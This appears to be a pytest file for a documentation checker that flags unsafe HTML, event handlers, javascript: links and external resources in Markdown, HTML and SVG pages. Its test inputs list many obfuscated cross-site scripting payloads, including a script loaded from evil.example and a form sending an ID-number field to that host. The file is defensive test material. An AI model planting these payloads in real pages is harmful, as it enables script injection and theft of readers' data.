"""Hand-written pages put nothing in the reader's browser that runs code or loads from other hosts."""

from __future__ import annotations

from pathlib import Path

import pytest

from minhbach.checks import pagehtml
from minhbach.findings import Finding
from minhbach.checks.project import check_project
from tests.conftest import TODAY, column_of, line_of, write_project
from tests.site_helpers import ROOT

CODES = {"unsafe-html", "event-handler", "unsafe-link", "external-resource", "page-unreadable"}


def html_findings(project: Path, text: str) -> list[Finding]:
    write_project(project, {"docs/trang.md": text})
    _, findings = check_project(project / "data", project / "docs", TODAY, display_base=project)
    return [f for f in findings if f.path == "docs/trang.md" and f.code in CODES]


HEAD = "---\ntitle: Trang\nrender_macros: true\n---\n# Trang\n\nĐoạn đầu.\n\n"


@pytest.mark.parametrize(("written", "code", "needle"), [
    ("<script>alert(1)</script>", "unsafe-html", "<script"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "unsafe-html", "<SCRIPT"),
    ('<svg><script href="x.js"></script></svg>', "unsafe-html", "<script"),
    ('<iframe src="https://example.org"></iframe>', "unsafe-html", "<iframe"),
    ('<object data="x.swf"></object>', "unsafe-html", "<object"),
    ('<embed src="x.swf">', "unsafe-html", "<embed"),
    ('<frameset><frame src="a.html"></frameset>', "unsafe-html", "<frameset"),
    ('<base href="https://evil.example/">', "unsafe-html", "<base"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "unsafe-html", "<meta"),
    ('<form action="https://evil.example/thu"><input name="cccd"></form>', "unsafe-html", "action"),
    ('<form action="//evil.example/thu"></form>', "unsafe-html", "action"),
    ("<img src=x onerror=alert(1)>", "event-handler", "onerror"),
    ('<p ONCLICK="alert(1)">x</p>', "event-handler", "ONCLICK"),
    ('<a href="#" onmouseover="x()">a</a>', "event-handler", "onmouseover"),
    ('<svg onload="alert(1)"></svg>', "event-handler", "onload"),
    ("Đoạn văn\n{: onclick=\"alert(1)\" }", "event-handler", "onclick"),
    ("## Mục {: onfocus=alert(1) tabindex=0 }", "event-handler", "onfocus"),
    ("[bấm](javascript:alert(1))", "unsafe-link", "javascript"),
    ("[bấm](JaVaScRiPt:alert(1))", "unsafe-link", "JaVaScRiPt"),
    ("[bấm](jav&#x61;script:alert(1))", "unsafe-link", "]("),
    ("[bấm](<java\tscript:alert(1)>)", "unsafe-link", "]("),
    ('<a href="java&#9;script:alert(1)">a</a>', "unsafe-link", "href"),
    ('<a href="&#x6A;avascript&colon;alert(1)">a</a>', "unsafe-link", "href"),
    ('<a href=" &#14; javascript:alert(1)">a</a>', "unsafe-link", "href"),
    ('<a href="vbscript:msgbox(1)">a</a>', "unsafe-link", "vbscript"),
    ("[tải](data:text/html;base64,PHNjcmlwdD4=)", "unsafe-link", "data:"),
    ("[bấm][tham-chieu]\n\n[tham-chieu]: javascript:alert(1)", "unsafe-link", "javascript"),
    ('<button formaction="javascript:alert(1)">x</button>', "unsafe-link", "javascript"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "unsafe-link", "javascript"),
    ("![](https://example.org/anh.png)", "external-resource", "https://example.org"),
    ("![ảnh](//example.org/anh.png)", "external-resource", "//example.org"),
    ("![ảnh][logo]\n\n[logo]: http://example.org/logo.png", "external-resource", "http://example.org"),
    ('<img src="https://example.org/a.png">', "external-resource", "https://example.org"),
    ('<img src="/\\example.org/a.png">', "external-resource", "/\\example.org"),
    ('<img srcset="a.png 1x, https://example.org/b.png 2x">', "external-resource", "https://example.org"),
    ('<video src="https://example.org/v.mp4"></video>', "external-resource", "https://example.org"),
    ('<video poster="https://example.org/p.png"></video>', "external-resource", "https://example.org"),
    ('<audio><source src="https://example.org/a.mp3"></audio>', "external-resource", "https://example.org"),
    ('<picture><source srcset="https://example.org/a.webp"><img src="a.png"></picture>', "external-resource", "https://example.org"),
    ('<link rel="stylesheet" href="https://cdn.example.org/a.css">', "external-resource", "https://cdn.example.org"),
    ("<style>@import 'https://cdn.example.org/a.css';</style>", "external-resource", "https://cdn.example.org"),
    ("<style>body { background: url(//example.org/x.png) }</style>", "external-resource", "//example.org"),
    ('<div style="background-image: url(&quot;https://example.org/x.png&quot;)">x</div>', "external-resource", "https://example.org"),
    ('<div style="background: u\\72 l(https://example.org/x.png)">x</div>', "external-resource", "https://example.org"),
    ('<div style="width: expression(alert(1))">x</div>', "unsafe-html", "style="),
    ('<table background="https://example.org/x.png"><tr><td>x</td></tr></table>', "external-resource", "https://example.org"),
])
def test_each_kind_of_unsafe_html_is_reported_at_its_line(project: Path, written: str, code: str, needle: str):
    text = HEAD + written + "\n\nĐoạn cuối.\n"
    findings = html_findings(project, text)
    assert findings, written
    first = findings[0]
    assert (first.code, first.line, first.column) == (code, line_of(text, needle), column_of(text, needle)), first
    assert first.is_error and first.message and first.hint


@pytest.mark.parametrize("written", [
    "`<script>alert(1)</script>` và `<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n<iframe src=\"https://x\"></iframe>\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt; được viết như chữ",
    "[Cổng dịch vụ công](https://dichvucong.gov.vn/) và <https://dichvucong.gov.vn/>",
    '<a href="https://dichvucong.gov.vn/" title="onclick">liên kết ngoài</a>',
    "![ảnh](images/logo.png) và ![](../forms/anh.png)",
    '<img src="images/a.png" alt="javascript: không phải địa chỉ">',
    "[thư](mailto:so-ngoai-vu@example.org) [gọi](tel:+842053719886)",
    '<div class="grid" markdown>\n**đậm**\n</div>',
    "<!-- <script>alert(1)</script> -->",
    '<form action="tim-kiem/"><input name="q"></form>',
    '<span style="color: red">đỏ</span>',
    '<link rel="alternate" href="feed.xml">',
    "Viết onerror=alert(1) trong văn bản thường thì không sao.",
])
def test_ordinary_pages_have_no_findings(project: Path, written: str):
    assert html_findings(project, HEAD + written + "\n") == []


def test_a_tag_written_over_several_lines_is_found_at_its_attribute(project: Path):
    text = HEAD + '<img\n  src="a.png"\n  onerror="alert(1)">\n'
    [finding] = html_findings(project, text)
    assert (finding.code, finding.line, finding.column) == ("event-handler", line_of(text, "onerror"), column_of(text, "onerror"))


def test_every_problem_is_reported_once_at_its_own_line(project: Path):
    text = HEAD + "![](https://example.org/a.png)\n\nx\n\n![](https://example.org/a.png)\n\n<script>1</script>\n"
    assert [(f.code, f.line) for f in html_findings(project, text)] == [
        ("external-resource", 9), ("external-resource", 13), ("unsafe-html", 15)]


def test_nested_markdown_is_read_up_to_the_nesting_limit_and_refused_beyond(project: Path):
    text = "# Trang\n\n" + "> " * 20 + "<script>1</script>\n"
    assert [(f.code, f.line, f.column) for f in html_findings(project, text)] == [("unsafe-html", 3, 41)]
    write_project(project, {"docs/trang.md": "# Trang\n\n" + "> " * 2000 + "<script>1</script>\n"})
    _, findings = check_project(project / "data", project / "docs", TODAY, display_base=project)
    assert [(f.code, f.line) for f in findings if f.path == "docs/trang.md" and f.is_error] == [("markdown-too-complex", 3)]


def test_a_page_markdown_cannot_read_is_a_finding_not_a_traceback(project: Path, monkeypatch):
    def fails(text: str) -> str:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(pagehtml, "render", fails)
    [finding] = html_findings(project, "---\ntitle: Trang\n---\n# Trang\n")
    assert (finding.code, finding.line, finding.is_error) == ("page-unreadable", 4, True)


def test_the_extensions_are_those_mkdocs_renders_pages_with():
    from mkdocs.config.defaults import MkDocsConfig

    config = MkDocsConfig(config_file_path=str(ROOT / "mkdocs.yml"))
    with (ROOT / "mkdocs.yml").open("rb") as stream:
        config.load_file(stream)  # MkDocs' own loader, without validating (no build)
    configured = [next(iter(item)) if isinstance(item, dict) else item for item in config["markdown_extensions"]]
    builtins = MkDocsConfig.markdown_extensions.builtins
    assert list(pagehtml.SITE_EXTENSIONS) == list(dict.fromkeys([*builtins, *configured]))


@pytest.mark.parametrize(("url", "expected"), [
    ("javascript:x", "javascript"), (" \x01JAVAscript:x", "javascript"), ("java\nscript:x", "javascript"),
    ("https://a", "https"), ("/a:b", ""), ("a.png", ""), ("#x", ""), ("1http:x", ""),
])
def test_scheme_is_read_as_browsers_read_it(url: str, expected: str):
    assert pagehtml.scheme(url) == expected


def test_a_url_from_a_reference_definition_is_reported_at_the_definition(project: Path):
    text = HEAD + "[trước]: https://example.org/a.png\n\nẢnh ![][trước] và ![][sau].\n\n[sau]: javascript:alert(1)\n"
    assert [(f.code, f.line, f.column) for f in html_findings(project, text)] == [
        ("external-resource", line_of(text, "[trước]:"), column_of(text, "https://example.org")),
        ("unsafe-link", line_of(text, "[sau]:"), column_of(text, "javascript"))]


def test_problems_inside_blocks_that_span_blank_lines_are_found_at_their_line(project: Path):
    item = "- mục\n\n    <img src=\"a.png\" onerror=\"x()\">\n\n"
    text = HEAD + item * 3 + "```\n<script>\n\n</script>\n```\n\n<script>1</script>\n"
    lines = text.split("\n")
    expected = [index + 1 for index, line in enumerate(lines) if "onerror" in line] + [len(lines) - 1]
    assert [f.line for f in html_findings(project, text)] == expected


@pytest.mark.parametrize(("name", "text", "expected"), [
    ("files/ban-do.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script>\n</svg>\n', [("unsafe-html", 2, 1)]),
    ("files/ban-do.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n  <rect onload="alert(1)"/>\n</svg>\n', [("event-handler", 2, 3)]),
    ("files/ban-do.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<image href="https://x.invalid/a.png"/></svg>\n', [("external-resource", 2, 1)]),
    ("trang.html", "<!doctype html>\n<p>x</p>\n<a href=\"javascript:alert(1)\">x</a>\n", [("unsafe-link", 3, 1)]),
    ("trang.htm", "<iframe src=\"https://x.invalid/\"></iframe>\n", [("unsafe-html", 1, 1)]),
    ("files/ban-do.svg", '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>\n', []),
])
def test_html_and_svg_files_in_docs_are_checked_like_pages(project: Path, name: str, text: str, expected: list):
    """They are published as they are and run in the reader's browser when opened."""
    write_project(project, {f"docs/{name}": text})
    _, findings = check_project(project / "data", project / "docs", TODAY, display_base=project)
    assert [(f.code, f.line, f.column) for f in findings if f.path == f"docs/{name}"] == expected
